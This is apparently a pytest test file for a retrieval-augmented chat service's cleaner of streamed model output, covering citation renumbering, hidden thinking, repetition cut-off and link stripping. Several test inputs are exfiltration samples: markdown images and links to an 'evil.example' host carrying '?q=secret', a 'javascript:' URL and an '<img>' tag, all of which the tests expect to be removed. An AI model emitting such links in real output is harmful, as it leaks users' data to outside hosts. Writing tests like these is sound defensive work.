"""What a model writes, as it arrives."""

from __future__ import annotations

import time

import pytest

from ragdesk.services.arrive import Incoming, clean, repeated_from

PASSAGES = ["See www.tiles.example/help for more.", "Grout costs 3 euros.", "Glass."]


@pytest.mark.parametrize(
    ("raw", "text", "cited"),
    [
        ("Ten years [2]. Glass [1].", "Ten years [1]. Glass [2].", (2, 1)),
        ("Ten years [9]. More [0].", "Ten years. More.", ()),
        ("Ten [1][2] years [1, 3] [7].", "Ten [1] [2] years [1] [3].", (1, 2, 3)),
        ("Ten years 【2†source】.", "Ten years [1].", (2,)),
        ("Ten years [Passage 3].", "Ten years [1].", (3,)),
        ("Ten [**2**]. Glass [*1*] [__3__] [`9`].", "Ten [1]. Glass [2] [3].", (2, 1, 3)),
        ("In [2024] it was [1].", "In [2024] it was [1].", (1,)),
        ("![x](http://evil.example/?q=secret) Look", "x Look", ()),
        ("[here](http://evil.example/?q=secret) Look", "here Look", ()),
        ("[1](http://evil.example/a) Look", "1 Look", ()),
        ("See http://evil.example/?q=secret.", "See evil.example.", ()),
        ("See javascript:alert(1)", "See )", ()),
        ("See www.tiles.example/help.", "See www.tiles.example/help.", ()),
        ('<img src="http://evil.example/x"> Look <b>here</b>', "Look here", ()),
        ("Look\n[1]: http://evil.example/x", "Look", ()),
        ("[2]: Ten years.\n[1]: Note: glass.", "[1] Ten years.\n [2] Note: glass.", (2, 1)),
        ("5 < 6 and 7 > 2 [1].", "5 < 6 and 7 > 2 [1].", (1,)),
        ("<think>secret</think>Ten years.", "Ten years.", ()),
    ],
)
def test_harmless(raw: str, text: str, cited: tuple[int, ...]) -> None:
    found = clean(raw, PASSAGES)
    assert (found.text, found.cited) == (text, cited)


def test_thinking_inside_the_text_is_told_apart() -> None:
    assert clean("<think>hm\nyes</think>Ten", PASSAGES).thinking == "hm\nyes"
    assert clean("<think>hm", PASSAGES) == clean("<think>hm</think>", PASSAGES)


def test_a_model_stuck_in_blanks_holds_nothing_up() -> None:
    began = time.process_time()  # of this process alone: others may be busy
    assert clean(f"Ten [1].{' ' * 20_000}x", PASSAGES).text == "Ten [1]. x"
    assert time.process_time() - began < 1  # with each blank begun at anew 2.6 s


@pytest.mark.parametrize("size", [1, 2, 5, 1000])
def test_pieces_make_the_whole_and_nothing_is_taken_back(size: int) -> None:
    raw = (
        "<think>hm</think>The price is 3 euros [2], see [here](http://evil.example/?q=1) or"
        " http://evil.example/2 [9]. It is <b>free</b> (mostly) [1, 2].\n\n- One! [3]\n- Two."
    )
    incoming = Incoming(PASSAGES)
    shown = "".join(incoming.add(raw[at : at + size]) for at in range(0, len(raw), size))
    assert "evil.example/" not in shown
    assert "[9" not in shown
    assert shown + incoming.end() == incoming.all.text == clean(raw, PASSAGES).text


def test_text_is_shown_while_it_comes() -> None:
    incoming = Incoming(PASSAGES)
    assert incoming.add("The price is 3 ") == "The price is 3"
    assert incoming.add("euros [") == " euros"
    assert incoming.add("2") == ""
    assert incoming.add("]. ") == " [1]."


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("The price is 3 euros [1]. It is free. The price is 3 euros [2].", "The price is 3 euros [1]. It is free."),
        ("- The price is low.\n- The price is low.", "- The price is low."),
        ("The price is low and low and low and low and low and low", "The price is low and low"),
        ("a b c a b c a b c", "a b c"),
    ],
)  # fmt: skip
def test_what_repeats_itself_is_cut_off(text: str, kept: str) -> None:
    incoming = Incoming(PASSAGES)
    incoming.add(text)
    assert incoming.loops
    assert incoming.all.text == kept


@pytest.mark.parametrize(
    "text",
    [
        "The price is 3 euros. The price is 4 euros.",
        "Yes. Yes. It is so, it is so.",
        "- Red: 3 euros\n- Blue: 3 euros\n- Green: 3 euros",
        "",
    ],
)
def test_what_is_alike_is_not_a_repetition(text: str) -> None:
    assert repeated_from(text) is None


def test_markers_of_what_was_cut_off_go_with_it() -> None:
    incoming = Incoming(PASSAGES)
    incoming.add("The price is 3 euros [2]. The price is 3 euros [3].")
    assert incoming.all.cited == (2,)


def test_short_sentences_in_front_of_a_repeated_one_go_with_it() -> None:
    text = "Ten years. It lasts long here. Ten years. It lasts long here."
    assert repeated_from(text) == text.index("Ten years. It lasts", 5)
